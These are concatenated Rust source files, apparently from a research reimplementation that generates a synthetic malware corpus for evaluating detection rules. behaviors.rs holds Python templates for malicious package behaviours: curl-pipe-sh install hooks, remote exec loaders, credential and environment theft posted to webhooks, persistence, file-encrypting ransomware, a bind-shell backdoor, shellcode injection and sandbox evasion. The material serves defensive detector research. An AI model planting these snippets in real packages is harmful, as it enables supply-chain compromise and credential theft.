        assert!(per[1].is_empty());
    }
}

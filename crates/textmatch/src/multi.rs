//! Tier-selecting multi-literal matcher: Teddy prefilter or Aho-Corasick.
//!
//! [`MultiLiteral`] is the entry point the scan path uses for every
//! multi-pattern literal search (the scanhub prefilter index and the YARA
//! scanner's `strings:` passes). At build time it inspects the pattern
//! set and picks a tier:
//!
//! * **Teddy** ([`crate::Teddy`]) when the set is small enough for
//!   bucketed verification to stay cheap (≤ [`MAX_TEDDY_PATTERNS`]) and
//!   every pattern is at least [`MIN_TEDDY_PATTERN_LEN`] bytes, so the
//!   2–3-byte fingerprint actually filters;
//! * **Aho-Corasick** ([`crate::AhoCorasick`]) otherwise — huge pattern
//!   sets amortize the automaton well, and 0/1-byte patterns would make
//!   the Teddy candidate mask fire on nearly every chunk.
//!
//! Both tiers report identical match streams (pinned by the differential
//! property suite), so callers never observe the routing decision except
//! through the engine counters.

use crate::ac::{AcMatch, AhoCorasick, MatchKind};
use crate::counters;
use crate::teddy::Teddy;

/// Largest pattern set routed to the Teddy tier; beyond this, bucket
/// verification lists grow past the point where the automaton wins.
pub const MAX_TEDDY_PATTERNS: usize = 128;

/// Shortest pattern the Teddy tier accepts; a 1-byte pattern collapses
/// the fingerprint to a single byte class with poor selectivity.
pub const MIN_TEDDY_PATTERN_LEN: usize = 2;

#[derive(Debug, Clone)]
enum Tier {
    // Boxed: the Teddy tables are ~1 KiB, far larger than the AC handle.
    Teddy(Box<Teddy>),
    Ac(AhoCorasick),
}

/// A multi-pattern literal matcher that picks the fastest tier for its
/// pattern set while preserving Aho-Corasick match semantics exactly.
///
/// # Examples
///
/// ```
/// use textmatch::{MatchKind, MultiLiteral};
///
/// let m = MultiLiteral::new(&["eval", "exec"], MatchKind::CaseSensitive);
/// assert!(m.uses_teddy());
/// assert!(m.is_match(b"exec(code)"));
/// ```
#[derive(Debug, Clone)]
pub struct MultiLiteral {
    tier: Tier,
    pattern_count: usize,
}

impl MultiLiteral {
    /// Builds a matcher over `patterns`, selecting a tier by set shape.
    ///
    /// Empty patterns are permitted but never match; ids follow
    /// construction order in both tiers.
    pub fn new<S: AsRef<[u8]>>(patterns: &[S], kind: MatchKind) -> Self {
        let eligible = !patterns.is_empty()
            && patterns.len() <= MAX_TEDDY_PATTERNS
            && patterns
                .iter()
                .all(|p| p.as_ref().len() >= MIN_TEDDY_PATTERN_LEN);
        let tier = if eligible {
            Tier::Teddy(Box::new(Teddy::new(patterns, kind)))
        } else {
            Tier::Ac(AhoCorasick::new(patterns, kind))
        };
        MultiLiteral {
            tier,
            pattern_count: patterns.len(),
        }
    }

    /// Number of patterns (in construction order).
    pub fn pattern_count(&self) -> usize {
        self.pattern_count
    }

    /// True when the Teddy prefilter tier serves this pattern set.
    pub fn uses_teddy(&self) -> bool {
        matches!(self.tier, Tier::Teddy(_))
    }

    /// Returns true when any pattern occurs in `haystack`.
    pub fn is_match(&self, haystack: &[u8]) -> bool {
        match &self.tier {
            Tier::Teddy(t) => t.is_match(haystack),
            Tier::Ac(ac) => {
                counters::record_ac_fallback_scan();
                ac.is_match(haystack)
            }
        }
    }

    /// Finds all occurrences of all patterns (overlapping included), in
    /// [`AhoCorasick::find_all`]'s order regardless of tier.
    pub fn find_all(&self, haystack: &[u8]) -> Vec<AcMatch> {
        match &self.tier {
            Tier::Teddy(t) => t.find_all(haystack),
            Tier::Ac(ac) => {
                counters::record_ac_fallback_scan();
                ac.find_all(haystack)
            }
        }
    }

    /// Streams every occurrence (overlapping included) to `visit`; the
    /// visitor returns `false` to stop early. Stream order is
    /// tier-dependent (AC: ascending end; Teddy: ascending start) but the
    /// match *set* is identical — aggregating callers are order-blind.
    pub fn for_each_match(&self, haystack: &[u8], visit: impl FnMut(AcMatch) -> bool) {
        match &self.tier {
            Tier::Teddy(t) => t.for_each_match(haystack, visit),
            Tier::Ac(ac) => {
                counters::record_ac_fallback_scan();
                ac.for_each_match(haystack, visit)
            }
        }
    }

    /// Returns, for each pattern, the ascending list of match offsets.
    pub fn find_per_pattern(&self, haystack: &[u8]) -> Vec<Vec<usize>> {
        match &self.tier {
            Tier::Teddy(t) => t.find_per_pattern(haystack),
            Tier::Ac(ac) => {
                counters::record_ac_fallback_scan();
                ac.find_per_pattern(haystack)
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn small_long_sets_use_teddy() {
        let m = MultiLiteral::new(&["os.system", "subprocess"], MatchKind::CaseSensitive);
        assert!(m.uses_teddy());
    }

    #[test]
    fn short_atoms_fall_back_to_ac() {
        let m = MultiLiteral::new(&["MZ", "a"], MatchKind::CaseSensitive);
        assert!(!m.uses_teddy());
        assert_eq!(m.find_per_pattern(b"MZa")[0], vec![0]);
    }

    #[test]
    fn oversized_sets_fall_back_to_ac() {
        let pats: Vec<String> = (0..MAX_TEDDY_PATTERNS + 1)
            .map(|i| format!("pattern{i:04}"))
            .collect();
        let m = MultiLiteral::new(&pats, MatchKind::CaseSensitive);
        assert!(!m.uses_teddy());
        assert!(m.is_match(b"xx pattern0007 yy"));
    }

    #[test]
    fn empty_pattern_set_matches_nothing() {
        let m = MultiLiteral::new(&[] as &[&str], MatchKind::CaseSensitive);
        assert!(!m.uses_teddy());
        assert!(!m.is_match(b"anything"));
        assert_eq!(m.pattern_count(), 0);
    }

    #[test]
    fn tiers_agree_via_wrapper() {
        let pats = &["he", "she", "hers"];
        let m = MultiLiteral::new(pats, MatchKind::CaseSensitive);
        let ac = AhoCorasick::new(pats, MatchKind::CaseSensitive);
        assert!(m.uses_teddy());
        assert_eq!(m.find_all(b"ushers"), ac.find_all(b"ushers"));
    }
}

//! Property-based tests for the corpus generator's invariants, including
//! the metamorphic contract of the adversarial mutants: obfuscation
//! changes bytes, never ground truth.

use corpus::{generate_legit_package, generate_malware_package, FAMILIES};
use obfuscate::{EvasionProfile, Obfuscator, Transform};
use proptest::prelude::*;

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    #[test]
    fn any_malware_variant_is_well_formed(
        family_idx in 0usize..30,
        variant in 0u64..50,
        seed in any::<u64>(),
    ) {
        let family = &FAMILIES[family_idx];
        let (pkg, tags) = generate_malware_package(family, variant, seed);
        // Structure invariants.
        prop_assert!(pkg.setup_file().is_some());
        prop_assert!(pkg.loc() > 20);
        prop_assert_eq!(tags.len(), family.behaviors.len());
        prop_assert!(!pkg.metadata().name.is_empty());
        // Source must parse.
        for f in pkg.files() {
            if f.path.ends_with(".py") {
                let module = pysrc::parse_module(&f.contents);
                prop_assert!(!module.body.is_empty(), "{} unparsable", f.path);
            }
        }
    }

    #[test]
    fn signatures_are_stable_and_variant_sensitive(
        family_idx in 0usize..30,
        variant in 0u64..20,
        seed in any::<u64>(),
    ) {
        let family = &FAMILIES[family_idx];
        let (a, _) = generate_malware_package(family, variant, seed);
        let (b, _) = generate_malware_package(family, variant, seed);
        prop_assert_eq!(a.signature(), b.signature());
        let (c, _) = generate_malware_package(family, variant + 1, seed);
        prop_assert_ne!(a.signature(), c.signature());
    }

    #[test]
    fn legit_packages_are_complete_and_bigger(index in 0usize..40, seed in any::<u64>()) {
        let pkg = generate_legit_package(index, seed);
        prop_assert!(pkg.loc() > 800, "legit package too small: {}", pkg.loc());
        prop_assert!(!pkg.metadata().description.is_empty());
        prop_assert!(!pkg.metadata().author_email.is_empty());
        prop_assert!(pkg.metadata().version != "0.0.0");
    }

    #[test]
    fn mutated_malware_keeps_its_ground_truth_label(
        family_idx in 0usize..30,
        variant in 0u64..10,
        seed in any::<u64>(),
    ) {
        // Metamorphic invariant: for semantics-preserving transforms the
        // package's label evidence survives — the mutant still carries
        // observable Table II indicators, the same behavior tags, and
        // parses through `pysrc`.
        let family = &FAMILIES[family_idx];
        let (pkg, tags) = generate_malware_package(family, variant, 42);
        for profile in EvasionProfile::standard() {
            let mutant = Obfuscator::new(profile.clone(), seed).obfuscate_package(&pkg);
            prop_assert_eq!(mutant.metadata(), pkg.metadata());
            prop_assert_eq!(mutant.files().len(), pkg.files().len());
            prop_assert!(!tags.is_empty());
            let analysis = llm_sim::analyze_code(&mutant.combined_source());
            prop_assert!(
                !analysis.indicators.is_empty(),
                "family {} profile {} mutant lost all Table II indicators",
                family.stem,
                profile.name
            );
            for f in mutant.files() {
                if f.path.ends_with(".py") {
                    let module = pysrc::parse_module(&f.contents);
                    prop_assert!(!module.body.is_empty(), "{} unparsable after {}", f.path, profile.name);
                }
            }
        }
    }

    #[test]
    fn mutation_is_deterministic_per_seed_per_transform(
        family_idx in 0usize..30,
        seed in any::<u64>(),
    ) {
        let family = &FAMILIES[family_idx];
        let (pkg, _) = generate_malware_package(family, 0, 42);
        for t in Transform::ALL {
            let profile = EvasionProfile::single(*t);
            let a = Obfuscator::new(profile.clone(), seed).obfuscate_package(&pkg);
            let b = Obfuscator::new(profile.clone(), seed).obfuscate_package(&pkg);
            prop_assert_eq!(
                a.signature(), b.signature(),
                "transform {} not byte-deterministic", t.name()
            );
        }
    }

    #[test]
    fn malware_behaviors_leave_observable_indicators(
        family_idx in 0usize..30,
        variant in 0u64..10,
    ) {
        let family = &FAMILIES[family_idx];
        let (pkg, _) = generate_malware_package(family, variant, 42);
        let analysis = llm_sim::analyze_code(&pkg.combined_source());
        prop_assert!(
            !analysis.indicators.is_empty(),
            "family {} variant {variant} produced no Table II indicators",
            family.stem
        );
    }
}

//! `rulellm-corpus` — the synthetic package dataset.
//!
//! The paper evaluates on 3,200 GuardDog malware packages (1,633 after
//! signature dedup, avg 424 LoC) and 500 popular legitimate packages
//! (avg 3,052 LoC) — Table VI. GuardDog's corpus and the top-PyPI snapshot
//! are external data we cannot ship, so this crate *generates* a corpus
//! with the same observable structure (DESIGN.md substitution table):
//!
//! * ~40 malicious behavior templates spanning the paper's rule taxonomy
//!   (Table XII) — C2 beacons, base64-obfuscated `exec`, credential
//!   theft, install hooks, anti-VM checks, typosquatting metadata, ...;
//! * malware families that combine behaviors; variants within a family
//!   differ in identifiers, hosts and payloads (exercising clustering and
//!   variant detection, §V-B);
//! * byte-identical duplicates so SHA-256 dedup reproduces 3,200 → 1,633;
//! * legitimate packages with realistic bulk (utility modules, clients,
//!   tests) including benign `subprocess`/`base64`/`requests` usage that
//!   punishes over-general rules.
//!
//! Everything is seeded and deterministic.
//!
//! # Examples
//!
//! ```
//! use corpus::{CorpusConfig, Dataset};
//!
//! let dataset = Dataset::generate(&CorpusConfig::tiny());
//! assert!(dataset.malware.len() >= dataset.unique_malware().len());
//! assert!(dataset.legit.iter().all(|p| p.package.loc() > 50));
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod behaviors;
mod dataset;
mod families;
mod legit;
mod malware;
mod mutants;
mod naming;

pub use behaviors::{Behavior, BehaviorTag, CATEGORIES};
pub use dataset::{CorpusConfig, Dataset, DatasetStats, LabeledLegit, LabeledMalware};
pub use families::{Family, MetadataStyle, FAMILIES};
pub use legit::generate_legit_package;
pub use malware::generate_malware_package;
pub use mutants::{mutate_dataset, mutated_legit, mutated_malware};

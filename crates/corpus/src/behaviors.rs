//! Malicious-behavior snippet templates.
//!
//! One template per taxonomy subcategory of Table XII (metadata
//! subcategories are realized in [`crate::families::MetadataStyle`]
//! instead of code). Each template renders a parameterized Python snippet:
//! variants of the same behavior share structure but differ in
//! identifiers, hosts and payloads, which is exactly the variation the
//! paper's clustering + multi-unit prompting is designed to generalize
//! over.

use rand::rngs::StdRng;
use rand::Rng;

use crate::naming;

/// A taxonomy tag: category and subcategory names follow Table XII.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct BehaviorTag {
    /// Category name (one of the 11 in Table XII).
    pub category: &'static str,
    /// Subcategory name (one of the 38 in Table XII).
    pub subcategory: &'static str,
}

/// The paper's taxonomy skeleton: 11 categories and their 38
/// subcategories (Table XII).
pub const CATEGORIES: &[(&str, &[&str])] = &[
    (
        "Metadata Related",
        &[
            "Package Metadata Manipulation",
            "Version Number Deception",
            "Fake Dependency Metadata",
            "Author Information Spoofing",
        ],
    ),
    (
        "Malicious Behavior",
        &[
            "Privilege Escalation",
            "Process Manipulation",
            "System Configuration Changes",
            "Persistence Mechanisms",
        ],
    ),
    (
        "Dependency Library",
        &[
            "System Library Abuse",
            "Network Library Misuse",
            "Crypto Library Exploitation",
            "UI/Graphics Library Abuse",
        ],
    ),
    (
        "Setup Code",
        &[
            "Malicious Setup Scripts",
            "Build Process Manipulation",
            "Installation Hook Abuse",
            "Configuration Tampering",
        ],
    ),
    (
        "Network Related",
        &[
            "C2 Communication",
            "Data Exfiltration Channels",
            "Malicious Downloads",
            "DNS/Protocol Abuse",
        ],
    ),
    (
        "Obfuscation & Anti-Detection",
        &[
            "Code Obfuscation",
            "Anti-Analysis Techniques",
            "Sandbox Evasion",
            "String/Pattern Hiding",
        ],
    ),
    (
        "Data Exfiltration",
        &[
            "Credential Theft",
            "Environment Data Stealing",
            "Configuration File Extraction",
            "Sensitive Data Harvesting",
        ],
    ),
    (
        "Code Execution",
        &[
            "Shell Command Execution",
            "Script Injection",
            "Process Creation",
        ],
    ),
    (
        "Application",
        &[
            "Messaging Platform Abuse",
            "Social Media API Exploitation",
            "Cloud Service Misuse",
            "Development Tool Abuse",
        ],
    ),
    (
        "Malware Family",
        &["Known Trojan Families", "Backdoor Families"],
    ),
    ("Other Rules", &["Unknown or Undetermined"]),
];

/// A code-behavior template.
pub struct Behavior {
    /// Taxonomy tag.
    pub tag: BehaviorTag,
    /// Renders one randomized variant of the behavior.
    pub render: fn(&mut StdRng) -> String,
}

impl std::fmt::Debug for Behavior {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Behavior").field("tag", &self.tag).finish()
    }
}

const fn tag(category: &'static str, subcategory: &'static str) -> BehaviorTag {
    BehaviorTag {
        category,
        subcategory,
    }
}

macro_rules! behavior {
    ($cat:expr, $sub:expr, $f:ident) => {
        Behavior {
            tag: tag($cat, $sub),
            render: $f,
        }
    };
}

/// The full behavior catalog, indexed by families.
pub static BEHAVIORS: &[Behavior] = &[
    behavior!(
        "Malicious Behavior",
        "Privilege Escalation",
        privilege_escalation
    ),
    behavior!(
        "Malicious Behavior",
        "Process Manipulation",
        process_manipulation
    ),
    behavior!(
        "Malicious Behavior",
        "System Configuration Changes",
        system_config_changes
    ),
    behavior!("Malicious Behavior", "Persistence Mechanisms", persistence),
    behavior!(
        "Dependency Library",
        "System Library Abuse",
        system_library_abuse
    ),
    behavior!(
        "Dependency Library",
        "Network Library Misuse",
        network_library_misuse
    ),
    behavior!(
        "Dependency Library",
        "Crypto Library Exploitation",
        crypto_exploitation
    ),
    behavior!(
        "Dependency Library",
        "UI/Graphics Library Abuse",
        ui_library_abuse
    ),
    behavior!(
        "Setup Code",
        "Malicious Setup Scripts",
        malicious_setup_script
    ),
    behavior!(
        "Setup Code",
        "Build Process Manipulation",
        build_process_manipulation
    ),
    behavior!("Setup Code", "Installation Hook Abuse", install_hook_abuse),
    behavior!("Setup Code", "Configuration Tampering", config_tampering),
    behavior!("Network Related", "C2 Communication", c2_communication),
    behavior!(
        "Network Related",
        "Data Exfiltration Channels",
        exfil_channel
    ),
    behavior!("Network Related", "Malicious Downloads", malicious_download),
    behavior!("Network Related", "DNS/Protocol Abuse", dns_abuse),
    behavior!(
        "Obfuscation & Anti-Detection",
        "Code Obfuscation",
        code_obfuscation
    ),
    behavior!(
        "Obfuscation & Anti-Detection",
        "Anti-Analysis Techniques",
        anti_analysis
    ),
    behavior!(
        "Obfuscation & Anti-Detection",
        "Sandbox Evasion",
        sandbox_evasion
    ),
    behavior!(
        "Obfuscation & Anti-Detection",
        "String/Pattern Hiding",
        string_hiding
    ),
    behavior!("Data Exfiltration", "Credential Theft", credential_theft),
    behavior!(
        "Data Exfiltration",
        "Environment Data Stealing",
        env_stealing
    ),
    behavior!(
        "Data Exfiltration",
        "Configuration File Extraction",
        config_extraction
    ),
    behavior!(
        "Data Exfiltration",
        "Sensitive Data Harvesting",
        data_harvesting
    ),
    behavior!("Code Execution", "Shell Command Execution", shell_execution),
    behavior!("Code Execution", "Script Injection", script_injection),
    behavior!("Code Execution", "Process Creation", process_creation),
    behavior!("Application", "Messaging Platform Abuse", messaging_abuse),
    behavior!(
        "Application",
        "Social Media API Exploitation",
        social_media_abuse
    ),
    behavior!("Application", "Cloud Service Misuse", cloud_misuse),
    behavior!("Application", "Development Tool Abuse", devtool_abuse),
    behavior!("Malware Family", "Known Trojan Families", trojan_family),
    behavior!("Malware Family", "Backdoor Families", backdoor_family),
];

/// Finds a behavior index by subcategory name.
pub fn behavior_index(subcategory: &str) -> Option<usize> {
    BEHAVIORS
        .iter()
        .position(|b| b.tag.subcategory == subcategory)
}

// ---- template functions ----

fn privilege_escalation(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    format!(
        "def {f}():\n    import os\n    try:\n        os.setuid(0)\n        os.setgid(0)\n    except OSError:\n        os.system('sudo -n true')\n"
    )
}

fn process_manipulation(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    let target = naming::pick(rng, &["defender", "avp", "clamav", "sentinel"]);
    format!(
        "def {f}():\n    import os, signal\n    for line in os.popen('ps ax').readlines():\n        if '{target}' in line:\n            pid = int(line.split()[0])\n            os.kill(pid, signal.SIGKILL)\n"
    )
}

fn system_config_changes(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    let host = naming::c2_domain(rng);
    format!(
        "def {f}():\n    with open('/etc/hosts', 'a') as hosts:\n        hosts.write('127.0.0.1 security-updates.example\\n')\n        hosts.write('0.0.0.0 {host}\\n')\n"
    )
}

fn persistence(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    let path = naming::ident(rng);
    format!(
        "def {f}():\n    import os\n    cron = '@reboot python3 /tmp/.{path}.py'\n    os.system('(crontab -l; echo \"' + cron + '\") | crontab -')\n    with open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n        rc.write('python3 /tmp/.{path}.py &\\n')\n"
    )
}

fn system_library_abuse(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    format!(
        "def {f}(shellcode):\n    import ctypes\n    buf = ctypes.create_string_buffer(shellcode)\n    ptr = ctypes.cast(buf, ctypes.c_void_p).value\n    ctypes.windll.kernel32.VirtualAlloc(0, len(shellcode), 0x3000, 0x40)\n    ctypes.windll.kernel32.CreateThread(0, 0, ptr, 0, 0, 0)\n"
    )
}

fn network_library_misuse(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    let ip = naming::c2_ip(rng);
    let port = rng.gen_range(4000..9999);
    format!(
        "def {f}():\n    import socket\n    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n    s.connect(('{ip}', {port}))\n    s.send(b'hello')\n    return s.recv(4096)\n"
    )
}

fn crypto_exploitation(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    format!(
        "def {f}(root):\n    import os\n    from cryptography.fernet import Fernet\n    key = Fernet.generate_key()\n    cipher = Fernet(key)\n    for dirpath, _dirs, files in os.walk(root):\n        for name in files:\n            path = os.path.join(dirpath, name)\n            with open(path, 'rb') as fh:\n                data = fh.read()\n            with open(path, 'wb') as fh:\n                fh.write(cipher.encrypt(data))\n"
    )
}

fn ui_library_abuse(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    let host = naming::c2_domain(rng);
    format!(
        "def {f}():\n    from PIL import ImageGrab\n    import requests\n    shot = ImageGrab.grab()\n    shot.save('/tmp/.cap.png')\n    requests.post('https://{host}/upload', files={{'shot': open('/tmp/.cap.png', 'rb')}})\n"
    )
}

fn malicious_setup_script(rng: &mut StdRng) -> String {
    let cls = naming::ident(rng);
    let host = naming::c2_domain(rng);
    format!(
        "from setuptools.command.install import install\n\nclass {cls}_install(install):\n    def run(self):\n        install.run(self)\n        import os\n        os.system('curl -s https://{host}/bootstrap.sh | sh')\n"
    )
}

fn build_process_manipulation(rng: &mut StdRng) -> String {
    let cls = naming::ident(rng);
    format!(
        "from setuptools.command.egg_info import egg_info\n\nclass {cls}_egg(egg_info):\n    def run(self):\n        import subprocess\n        subprocess.call(['python', '-c', 'import urllib.request as u; exec(u.urlopen(\"http://bootstrap.local/x\").read())'])\n        egg_info.run(self)\n"
    )
}

fn install_hook_abuse(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    let host = naming::c2_domain(rng);
    format!(
        "import atexit\n\ndef {f}():\n    import os\n    os.system('wget -q https://{host}/post-install.py -O /tmp/.pi.py && python3 /tmp/.pi.py')\n\natexit.register({f})\n"
    )
}

fn config_tampering(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    let host = naming::c2_domain(rng);
    format!(
        "def {f}():\n    import os\n    pip_conf = os.path.expanduser('~/.pip/pip.conf')\n    os.makedirs(os.path.dirname(pip_conf), exist_ok=True)\n    with open(pip_conf, 'w') as fh:\n        fh.write('[global]\\nindex-url = https://{host}/simple\\n')\n"
    )
}

fn c2_communication(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    let host = naming::c2_domain(rng);
    let sleep = rng.gen_range(10..120);
    format!(
        "def {f}():\n    import requests, time\n    while True:\n        try:\n            cmd = requests.get('https://{host}/tasks', timeout=5).text\n            if cmd:\n                import os\n                os.system(cmd)\n        except Exception:\n            pass\n        time.sleep({sleep})\n"
    )
}

fn exfil_channel(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    let url = naming::webhook_url(rng);
    format!(
        "def {f}(payload):\n    import requests, json\n    requests.post('{url}', json={{'content': json.dumps(payload)}})\n"
    )
}

fn malicious_download(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    let host = naming::c2_domain(rng);
    let name = naming::ident(rng);
    format!(
        "def {f}():\n    import urllib.request, os\n    urllib.request.urlretrieve('http://{host}/{name}.bin', '/tmp/.{name}')\n    os.chmod('/tmp/.{name}', 0o755)\n    os.system('/tmp/.{name} &')\n"
    )
}

fn dns_abuse(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    let host = naming::c2_domain(rng);
    format!(
        "def {f}(chunk):\n    import socket\n    label = chunk.hex()[:40]\n    try:\n        socket.gethostbyname(label + '.{host}')\n    except socket.gaierror:\n        pass\n"
    )
}

fn code_obfuscation(rng: &mut StdRng) -> String {
    let host = naming::c2_domain(rng);
    let inner = format!("import os;os.system('curl -s https://{host}/stage2 | sh')");
    let encoded = digest::base64::encode(inner.as_bytes());
    format!("import base64\nexec(base64.b64decode('{encoded}'))\n")
}

fn anti_analysis(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    format!(
        "def {f}():\n    import sys, time\n    if sys.gettrace() is not None:\n        sys.exit(0)\n    start = time.time()\n    time.sleep(2)\n    if time.time() - start < 1.5:\n        sys.exit(0)\n"
    )
}

fn sandbox_evasion(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    format!(
        "def {f}():\n    import os, uuid\n    mac = uuid.getnode()\n    vm_prefixes = ('080027', '000c29', '005056')\n    if format(mac, '012x')[:6] in vm_prefixes:\n        os._exit(0)\n    if os.environ.get('USERNAME', '').lower() in ('sandbox', 'maltest', 'virus'):\n        os._exit(0)\n"
    )
}

fn string_hiding(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    let word = naming::pick(rng, &["token", "secret", "wallet", "passwd"]);
    let parts: Vec<String> = word.bytes().map(|b| format!("chr({b})")).collect();
    format!(
        "def {f}():\n    key = {}\n    return ''.join([{}])\n",
        "''",
        parts.join(", ")
    )
}

fn credential_theft(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    let url = naming::webhook_url(rng);
    format!(
        "def {f}():\n    import os, requests\n    targets = ['~/.aws/credentials', '~/.ssh/id_rsa', '~/.netrc']\n    loot = {{}}\n    for t in targets:\n        path = os.path.expanduser(t)\n        if os.path.exists(path):\n            loot[t] = open(path).read()\n    requests.post('{url}', json=loot)\n"
    )
}

fn env_stealing(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    let host = naming::c2_domain(rng);
    format!(
        "def {f}():\n    import os, requests\n    env = dict(os.environ)\n    requests.post('https://{host}/collect', json=env)\n"
    )
}

fn config_extraction(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    let url = naming::webhook_url(rng);
    format!(
        "def {f}():\n    import os, requests\n    for name in ('.pypirc', '.npmrc', '.gitconfig'):\n        path = os.path.join(os.path.expanduser('~'), name)\n        if os.path.isfile(path):\n            requests.post('{url}', data=open(path, 'rb').read())\n"
    )
}

fn data_harvesting(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    let host = naming::c2_domain(rng);
    format!(
        "def {f}():\n    import platform, getpass, socket, requests\n    info = {{\n        'user': getpass.getuser(),\n        'host': socket.gethostname(),\n        'os': platform.platform(),\n        'cwd': __file__,\n    }}\n    requests.post('https://{host}/fp', json=info)\n"
    )
}

fn shell_execution(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    let host = naming::c2_domain(rng);
    let tool = naming::pick(rng, &["curl -s", "wget -qO-"]);
    format!("def {f}():\n    import os\n    os.system('{tool} https://{host}/run.sh | sh')\n")
}

fn script_injection(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    let host = naming::c2_domain(rng);
    format!(
        "def {f}():\n    import os, site\n    for pkg_dir in site.getsitepackages():\n        target = os.path.join(pkg_dir, 'requests', '__init__.py')\n        if os.path.exists(target):\n            with open(target, 'a') as fh:\n                fh.write('\\nimport urllib.request as _u; exec(_u.urlopen(\"https://{host}/inj\").read())\\n')\n"
    )
}

fn process_creation(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    format!(
        "def {f}(cmd):\n    import subprocess\n    return subprocess.Popen(cmd, shell=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
    )
}

fn messaging_abuse(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    format!(
        "def {f}():\n    import os, re, requests\n    roaming = os.path.expanduser('~/AppData/Roaming/discord/Local Storage/leveldb')\n    tokens = []\n    if os.path.isdir(roaming):\n        for name in os.listdir(roaming):\n            data = open(os.path.join(roaming, name), errors='ignore').read()\n            tokens += re.findall(r'[\\w-]{{24}}\\.[\\w-]{{6}}\\.[\\w-]{{27}}', data)\n    return tokens\n"
    )
}

fn social_media_abuse(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    format!(
        "def {f}(token, text):\n    import requests\n    requests.post('https://api.twitter.com/2/tweets', headers={{'Authorization': 'Bearer ' + token}}, json={{'text': text}})\n"
    )
}

fn cloud_misuse(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    let bucket = naming::ident(rng);
    format!(
        "def {f}():\n    import boto3\n    s3 = boto3.client('s3')\n    creds = boto3.Session().get_credentials()\n    s3.put_object(Bucket='{bucket}-drop', Key='keys.txt', Body=str(creds.access_key) + ':' + str(creds.secret_key))\n"
    )
}

fn devtool_abuse(rng: &mut StdRng) -> String {
    let f = naming::ident(rng);
    let url = naming::webhook_url(rng);
    format!(
        "def {f}():\n    import subprocess, requests\n    email = subprocess.check_output(['git', 'config', 'user.email']).decode()\n    remotes = subprocess.check_output(['git', 'remote', '-v']).decode()\n    requests.post('{url}', json={{'email': email, 'remotes': remotes}})\n"
    )
}

fn trojan_family(rng: &mut StdRng) -> String {
    let host = naming::c2_domain(rng);
    format!(
        "# w4sp-stage\n__w4sp__ = 'wasp-stealer'\n\ndef inject():\n    import requests\n    src = requests.get('https://{host}/w4sp/inject.py').text\n    exec(compile(src, 'inject', 'exec'))\n"
    )
}

fn backdoor_family(rng: &mut StdRng) -> String {
    let port = rng.gen_range(4000..9999);
    format!(
        "def serve():\n    import socket, subprocess\n    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n    srv.bind(('0.0.0.0', {port}))\n    srv.listen(1)\n    while True:\n        conn, _addr = srv.accept()\n        data = conn.recv(1024).decode()\n        out = subprocess.run(data, shell=True, capture_output=True)\n        conn.send(out.stdout + out.stderr)\n"
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;
    use std::collections::HashSet;

    #[test]
    fn taxonomy_has_11_categories_and_38_subcategories() {
        assert_eq!(CATEGORIES.len(), 11);
        let total: usize = CATEGORIES.iter().map(|(_, subs)| subs.len()).sum();
        assert_eq!(total, 38);
    }

    #[test]
    fn every_behavior_tag_is_in_the_taxonomy() {
        for b in BEHAVIORS {
            let (_, subs) = CATEGORIES
                .iter()
                .find(|(c, _)| *c == b.tag.category)
                .unwrap_or_else(|| panic!("category {} missing", b.tag.category));
            assert!(
                subs.contains(&b.tag.subcategory),
                "subcategory {} missing",
                b.tag.subcategory
            );
        }
    }

    #[test]
    fn all_code_subcategories_covered() {
        // 38 total minus 4 metadata subcategories minus "Unknown" = 33.
        assert_eq!(BEHAVIORS.len(), 33);
        let unique: HashSet<&str> = BEHAVIORS.iter().map(|b| b.tag.subcategory).collect();
        assert_eq!(unique.len(), 33);
    }

    #[test]
    fn snippets_render_and_parse() {
        let mut rng = StdRng::seed_from_u64(9);
        for b in BEHAVIORS {
            let code = (b.render)(&mut rng);
            assert!(!code.is_empty(), "{} rendered empty", b.tag.subcategory);
            let module = pysrc::parse_module(&code);
            assert!(!module.body.is_empty(), "{} unparsable", b.tag.subcategory);
        }
    }

    #[test]
    fn variants_differ_but_share_apis() {
        let mut rng = StdRng::seed_from_u64(10);
        let c2 = &BEHAVIORS[behavior_index("C2 Communication").expect("present")];
        let a = (c2.render)(&mut rng);
        let b = (c2.render)(&mut rng);
        assert_ne!(a, b);
        assert!(a.contains("requests.get"));
        assert!(b.contains("requests.get"));
    }

    #[test]
    fn obfuscation_payload_decodes() {
        let mut rng = StdRng::seed_from_u64(11);
        let ob = &BEHAVIORS[behavior_index("Code Obfuscation").expect("present")];
